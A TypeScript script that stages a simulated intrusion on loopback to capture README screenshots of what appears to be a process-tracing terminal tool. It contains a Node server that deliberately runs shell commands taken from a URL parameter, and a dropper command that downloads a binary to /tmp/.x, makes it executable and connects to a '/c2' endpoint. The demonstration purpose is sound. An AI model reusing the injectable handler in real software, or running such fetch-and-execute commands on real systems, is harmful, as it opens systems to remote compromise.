// Pictures for the README from real frames: starts a small service and an attack on it, all on loopback, shows them in the
// real program, and writes what a terminal displayed as SVG. Needs root. Usage: picture.ts [folder]

import { spawn } from "node:child_process";
import { once } from "node:events";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { frameToSvg } from "./frame-to-svg.ts";
import { BUNDLE } from "./program.ts";
import { Tui } from "./tui.ts";

const WWW_DATA = 33;
const NOBODY = 65534;
const DROPPED = "/tmp/.x";

const SERVER = `
const { createServer } = require("node:http");
const { execFile } = require("node:child_process");
createServer((request, response) => {
  const url = new URL(request.url, "http://localhost");
  const command = url.searchParams.get("run");
  if (command !== null) execFile("sh", ["-c", command]);
  response.writeHead(200);
  if (url.pathname === "/stream") setInterval(() => response.write("x".repeat(20000)), 200).unref();
  else response.end("ok");
}).listen(8080, "127.0.0.1");
`;
const CLIENT = `
const { get } = require("node:http");
for (let i = 0; i < 3; i++) get("http://127.0.0.1:8080/stream", (response) => response.resume());
setInterval(() => {}, 1e9);
`;
const START = "echo $$ > start.sh.pid; node server.cjs & sleep 1; node worker.cjs & tail -n 0 -F app.log & wait";

/** Waits until somebody watches, then asks the service to run the command in the file "run". */
const CLIENT_SCRIPT = `echo $$ > cron.sh.pid; while [ ! -e go ]; do sleep 0.2; done
curl -s -G --data-urlencode run@run http://127.0.0.1:8080/; sleep 600`;

/** A server on loopback outside the picture: offers a program, and listens for it. */
async function startOutside(program: Buffer): Promise<{ readonly port: number; close(): void }> {
  const server = createServer((request, response) => {
    response.writeHead(200);
    if (request.url === "/k") response.end(program);
    else response.write("waiting\n");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return { port: (server.address() as AddressInfo).port, close: () => server.closeAllConnections() };
}

/** Starts a daemon: its parent is gone before anybody watches. Returns its pid, which is its group's too. */
async function startDaemon(home: string, id: number, script: string, ...args: readonly string[]): Promise<number> {
  const path = join(home, `${script}.pid`);
  const launcher = spawn("setsid", ["--fork", "sh", script, ...args], {
    cwd: home,
    stdio: "ignore",
    uid: id,
    gid: id,
    env: { PATH: `${home}:/usr/bin:/bin` },
  });
  await once(launcher, "exit");
  while (!existsSync(path)) await sleep(20);
  return Number(readFileSync(path, "utf8"));
}

function endGroup(pid: number): void {
  try {
    process.kill(-pid, "SIGKILL");
  } catch {
    // It ended by itself.
  }
}

async function main(folder: string): Promise<void> {
  const home = mkdtempSync(join(tmpdir(), "app-"));
  chmodSync(home, 0o777);
  symlinkSync(process.execPath, join(home, "node"));
  for (const [name, text] of Object.entries({
    "server.cjs": SERVER,
    "worker.cjs": CLIENT,
    "start.sh": START,
    "cron.sh": CLIENT_SCRIPT,
  })) {
    writeFileSync(join(home, name), text);
  }
  const outside = await startOutside(readFileSync("/usr/bin/curl"));
  const run = `curl -s http://127.0.0.1:${outside.port}/k -o ${DROPPED}; chmod +x ${DROPPED}; ${DROPPED} -sN http://127.0.0.1:${outside.port}/c2`;
  writeFileSync(join(home, "run"), run);
  const app = await startDaemon(home, WWW_DATA, "start.sh");
  const client = await startDaemon(home, NOBODY, "cron.sh");
  await sleep(2000);
  const tui = new Tui("unshare", ["--uts", "sh", "-c", `hostname web-01; exec "${process.execPath}" "${BUNDLE}"`], {
    columns: 132,
    rows: 32,
  });
  try {
    await tui.waitFor("LIVE");
    tui.press(`/pid:${app}`);
    await tui.waitFor((screen) => screen.some((line) => line.includes("proc ") && line.includes(` ${app} `)));
    tui.press("\rz");
    await tui.waitFor(`below ${app}`);
    writeFileSync(join(home, "go"), "");
    await tui.waitFor((screen) => screen.some((line) => line.includes(DROPPED) && line.includes("⇒")));
    // The charts want something to show.
    await sleep(25_000);
    const rows = tui.screen().filter((line) => /^ . +\d+ /u.test(line));
    tui.press(`g${"j".repeat(rows.findIndex((line) => line.includes(DROPPED) && line.includes("⇒")))}`);
    await tui.waitFor((screen) => screen.slice(-3).join(" ").includes("Download"));
    mkdirSync(folder, { recursive: true });
    const shoot = (name: string): void => writeFileSync(join(folder, `${name}.svg`), frameToSvg(tui.cells()));
    shoot("tree");
    tui.press("o");
    await tui.waitFor("evidence:");
    shoot("origin");
    console.log(tui.screen().join("\n"));
    tui.press("q");
    await tui.exited;
  } finally {
    tui.kill("SIGKILL");
    endGroup(app);
    endGroup(client);
    outside.close();
    rmSync(home, { recursive: true, force: true });
    rmSync(DROPPED, { force: true });
  }
  process.exit(0);
}

await main(process.argv[2] ?? "docs/pictures");
